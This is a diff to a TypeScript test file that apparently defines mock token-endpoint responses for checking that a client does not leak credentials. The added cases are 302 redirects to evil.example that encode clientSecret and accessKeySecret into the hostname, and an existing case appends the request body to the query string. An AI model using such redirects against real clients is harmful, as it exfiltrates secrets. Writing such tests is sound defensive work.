@@ -100,6 +100,22 @@ const tokenAnswers: ReadonlyArray<readonly [string, (sent: Sent) => Response]> =
     "302 to a URL that repeats the request",
     (sent) => new Response("", { status: 302, headers: { location: `https://evil.example/?${sent.body}` } })
   ],
+  [
+    "302 to a host that repeats the secret",
+    () =>
+      new Response("", {
+        status: 302,
+        headers: { location: `https://${encodeURIComponent(clientSecret)}.evil.example` }
+      })
+  ],
+  [
+    "302 to a host with the secret's letters",
+    () =>
+      new Response("", {
+        status: 302,
+        headers: { location: `https://${`${clientSecret}.${accessKeySecret}`.replace(/[^\w.]/g, "")}.evil.example` }
+      })
+  ],
   ["200 with the token under another name", () => json({ bearer: tokenValue, message: tokenValue })],
   ["200 with the token in a list", () => json([{}, { access_token: tokenValue }])],
   ["200 with the token where another type belongs", () => json({ access_token: { value: tokenValue } })],
